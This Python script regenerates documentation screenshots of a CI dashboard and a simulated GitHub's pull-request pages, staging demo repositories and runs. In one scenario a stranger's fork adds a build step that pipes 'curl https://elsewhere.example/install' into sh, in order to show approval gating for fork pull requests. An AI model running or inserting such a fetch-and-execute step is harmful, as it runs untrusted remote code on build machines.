"""Makes the pictures of the docs anew: every page of the dashboard, and the simulator's pages of pull requests.

All that they show was really built, by a service that runs beside a simulator of GitHub. Needs Chromium; run it as
`python -m scripts.make_screenshots`.
"""

from __future__ import annotations

import asyncio
import contextlib
import shutil
import sys
import tempfile
from collections.abc import Sequence
from pathlib import Path

from playwright.async_api import async_playwright

from bot.cli import demo
from bot.simulator import Simulator
from scripts import picture_stories
from scripts.camera import ARGUMENTS, IMAGES, Camera


async def main() -> None:
    """Tell the stories, take their pictures, and remove those that nobody takes any more."""
    chromium = shutil.which("chromium")
    if chromium is None:
        sys.exit("Chromium is missing: apt-get install chromium")
    if not await _has_emoji():
        sys.exit("A font with emoji is missing, which GitHub's pages have: apt-get install fonts-noto-color-emoji")
    async with contextlib.AsyncExitStack() as stack:
        home = Path(stack.enter_context(tempfile.TemporaryDirectory()))
        playwright = await stack.enter_async_context(async_playwright())
        browser = await playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
        stack.push_async_callback(browser.close)
        camera = Camera(browser)
        for tell in (picture_stories.set_up, picture_stories.tell, _pull_requests):
            folder = home / tell.__name__
            folder.mkdir()
            camera.storage = None
            await tell(camera, folder)
    for path in IMAGES.glob("*.png"):
        if path.stem not in camera.taken:
            path.unlink()
    size = sum(path.stat().st_size for path in IMAGES.glob("*.png"))
    print(f"{len(camera.taken)} pictures, {size / 1e6:.1f} MB")


async def _has_emoji() -> bool:
    asked = ("fc-list", ":charset=274c", "family")
    process = await asyncio.create_subprocess_exec(*asked, stdout=asyncio.subprocess.PIPE)
    return bool((await process.communicate())[0].strip())


async def _pull_requests(camera: Camera, home: Path) -> None:
    """What people see on GitHub, on the simulator's pages."""
    async with Simulator(folder=home / "github") as github, demo.service(github, home) as url:
        github.webhook_url = f"{url}/webhook"
        await _red_check(camera, github)
        await _stranger(camera, github)
        await _results(camera, github)


async def _red_check(camera: Camera, github: Simulator) -> None:
    repository = await github.create_repository("octo/hello", files=demo.MAIN)
    await github.commit(repository, "greet-the-world", demo.TOPIC, "Greet the world when nobody is named")
    pull = await github.open_pull_request(repository, "greet-the-world", author="mona")
    await github.wait_for_check(repository, pull.head_sha, conclusion="failure")
    await camera.shoot("pull-request", f"{repository.html_url}/pull/{pull.number}")


async def _stranger(camera: Camera, github: Simulator) -> None:
    """A stranger's pull request waits, is approved by the button, and a newer push drops the approval."""
    repository = await github.create_repository("octo/tools", files=demo.MAIN)
    fork = await github.fork(repository, "stranger")
    pipeline = demo.MAIN[".buildhook.yml"] + "      - run: curl https://elsewhere.example/install | sh\n"
    files = {"README.md": "# Better tools\n", ".buildhook.yml": pipeline}
    await github.commit(fork, "better", files, "Make the tools better")
    pull = await github.open_pull_request(repository, "better", from_fork=fork, author="stranger")
    page = f"{repository.html_url}/pull/{pull.number}"
    run = await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
    await camera.shoot("stranger-waits", page)
    github.press_action(run, "approve", sender="octo")
    await github.wait_for_check(repository, pull.head_sha, conclusion="success")
    await camera.shoot("stranger-approved", page)
    await github.push(fork, "better", {"README.md": "# Even better tools\n"}, author="stranger")
    await github.wait_for_check(repository, pull.head_sha, conclusion="action_required")
    await camera.shoot("stranger-pushed-again", page)


async def _results(camera: Camera, github: Simulator) -> None:
    """A pull request that breaks 400 tests, and what its job leaves behind."""
    pipeline = """\
name: hello
on: [push, pull_request, workflow_dispatch]
jobs:
  test:
    steps:
      - name: make test
        run: test ! -e broken
    reports: {junit: "reports/*.xml", sarif: findings.sarif, coverage: coverage.lcov}
    artifacts: {name: reports, path: reports/}
"""
    good = {".buildhook.yml": pipeline, "reports/tests.xml": _junit(()), "coverage.lcov": _lcov(850), "a.c": "int a;\n"}
    repository = await github.create_repository("octo/results", files={"README.md": "# Results\n"})
    head = await github.push(repository, "main", good, "Begin")
    await github.wait_for_check(repository, head, conclusion="success")
    bad = {"broken": "", "reports/tests.xml": _junit(range(400)), "coverage.lcov": _lcov(790), "findings.sarif": _SARIF}
    await github.commit(repository, "break", {**bad, "a.c": "int a = b;\n"}, "Break everything")
    pull = await github.open_pull_request(repository, "break", title="Break everything")
    run = await github.wait_for_check(repository, pull.head_sha, conclusion="failure")
    await camera.shoot("results-on-github", f"{repository.html_url}/runs/{run.id}", most=1340)
    await camera.shoot("results", run.details_url, most=900)


def _junit(failed: Sequence[int]) -> str:
    wrong = '<failure message="assert 1 == 2">&gt; assert 1 == 2\ntests/test_all.py:{0}: AssertionError</failure>'
    cases = (
        f'<testcase classname="tests.test_all" name="test_{number}" time="0.01">'
        f"{wrong.format(number + 3) if number in failed else ''}</testcase>"
        for number in range(420)
    )
    return f"<testsuites><testsuite>{''.join(cases)}</testsuite></testsuites>"


def _lcov(covered: int) -> str:
    return f"SF:a.c\nLF:1000\nLH:{covered}\nend_of_record\n"


_SARIF = """{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "lint"}}, "results": [{"ruleId": "undeclared",
"level": "error", "message": {"text": "`b` is not declared."}, "locations": [{"physicalLocation": {"artifactLocation":
{"uri": "a.c"}, "region": {"startLine": 1}}}]}]}]}"""


if __name__ == "__main__":
    asyncio.run(main())
